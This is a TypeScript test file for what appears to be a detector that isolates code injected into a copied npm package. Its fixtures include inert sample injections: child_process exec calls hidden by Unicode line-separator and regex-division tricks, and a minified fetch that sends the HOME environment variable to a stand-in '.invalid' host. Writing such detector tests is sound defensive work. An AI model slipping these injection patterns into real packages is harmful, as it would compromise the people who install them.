import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { behaviourOf } from '../../../test/behave.ts';
import { treeOf } from '../../../test/examine.ts';
import { copyOf, MULEPOST, README } from '../../../test/known-mailer.ts';
import type { Residue } from '../../model/residue.ts';
import { placer } from '../../parse/quote.ts';
import { readOriginal } from './original.ts';
import { subtract } from './residue.ts';

const CODE = String(MULEPOST['lib/mulepost.js']);

function residue(files: Readonly<Record<string, string>>): Residue {
  const suspect = copyOf(MULEPOST, { name: 'letter-carrier' }, files);
  const tree = treeOf(suspect);
  return subtract({
    suspect: tree,
    original: readOriginal(treeOf(MULEPOST)),
    names: { suspect: 'letter-carrier', original: 'mulepost' },
    effects: behaviourOf(suspect).effects,
    usual: behaviourOf(MULEPOST).effects,
    placeOf: placer(tree),
  }).residue;
}

describe('what is left of a package', () => {
  it('is nothing when it is the original', () => {
    const { counted, files, effects } = residue({});
    assert.deepEqual(counted, { same: 5, alike: 0, changed: 0, added: 0, missing: 0 });
    assert.deepEqual([files, effects], [[], []]);
  });

  it('is exactly what was added to a file, with what it does', () => {
    const added = "\nrequire('child_process').exec('inert-marker');\n";
    const { counted, files, effects } = residue({ 'lib/mulepost.js': CODE.replace('class Transport', `${added}class Transport`) });
    assert.equal(counted.changed, 1);
    assert.deepEqual(
      files[0]?.pieces.map(one => one.at.excerpt),
      ["require('child_process').exec('inert-marker');"],
    );
    assert.deepEqual(
      effects.map(one => [one.kind, one.triggers]),
      [['spawns', ['import']]],
    );
  });

  it('is an added file whole, and the call that loads it', () => {
    const { files, effects } = residue({
      'lib/mulepost.js': `require('./extra');\n${CODE}`,
      'lib/extra.js': "require('fs').writeFileSync('/tmp/inert', 'INERT');",
    });
    assert.deepEqual(
      files.map(one => [one.path, one.as]),
      [
        ['lib/mulepost.js', 'changed'],
        ['lib/extra.js', 'added'],
      ],
    );
    assert.ok(effects.some(one => one.kind === 'writes file' && one.at.path === 'lib/extra.js'));
    assert.ok(
      effects.every(one => one.kind !== 'connects'),
      'what the original does is no part of it',
    );
  });

  it('is nothing where variables are named and lines are broken otherwise', () => {
    const renamed = CODE.replaceAll(/\b(socket|lines)\b/g, name => `${name}_`).replaceAll('\n', '\n\n');
    assert.deepEqual(residue({ 'lib/mulepost.js': renamed }).counted, { same: 4, alike: 1, changed: 0, added: 0, missing: 0 });
  });

  it('is the added code alone where a minifier rewrote the rest', () => {
    // As a minifier writes `folding.js` and `addresses.js`, with one statement put in.
    const minified =
      '"use strict";exports.split=t=>t.split(",").map(t=>t.trim()).filter(t=>t.includes("@")),exports.domainOf=t=>t.slice(t.lastIndexOf("@")+1).toLowerCase(),' +
      'exports.isLocal=t=>"localhost"===exports.domainOf(t);fetch("https://inert.invalid/"+process.env.HOME);';
    const { files } = residue({ 'lib/addresses.js': minified });
    const pieces = files.find(one => one.path === 'lib/addresses.js')?.pieces ?? [];
    assert.deepEqual(
      pieces.map(one => one.at.excerpt),
      ['fetch("https://inert.invalid/"+process.env.HOME);'],
    );
  });

  it('is what does something that the original does nowhere, however its words are hidden', () => {
    for (const deed of [
      "//\u2028require('child_process').exec('inert-marker');",
      "var k=1;k++ /1;require('child_process').exec('inert-marker');k/1;",
    ]) {
      const { files, effects } = residue({ 'lib/mulepost.js': `${CODE}\n${deed}\n` });
      assert.deepEqual([files[0]?.path, effects.map(one => one.kind)], ['lib/mulepost.js', ['spawns']], deed);
    }
    assert.ok(residue({ 'lib/a#b.js': "require('child_process').exec('inert-marker');" }).files.some(one => one.path === 'lib/a#b.js'));
  });

  it('is of a page the lines that are new, the name of the package apart', () => {
    const renamed = README.replaceAll('mulepost', 'letter-carrier');
    assert.equal(residue({ 'README.md': renamed }).counted.alike, 1);
    const { files } = residue({ 'README.md': `${renamed}\nAsk at our channel for the other edition.\n` });
    assert.deepEqual(
      files.map(one => [one.path, one.as, one.pieces.map(piece => piece.at.excerpt)]),
      [['README.md', 'changed', ['Ask at our channel for the other edition.']]],
    );
  });

  it('counts files that are left out, and a file moved elsewhere as the same', () => {
    const { counted, missing } = residue({ 'src/folding.js': String(MULEPOST['lib/folding.js']) });
    assert.deepEqual([counted.same, missing], [6, []]);
  });
});
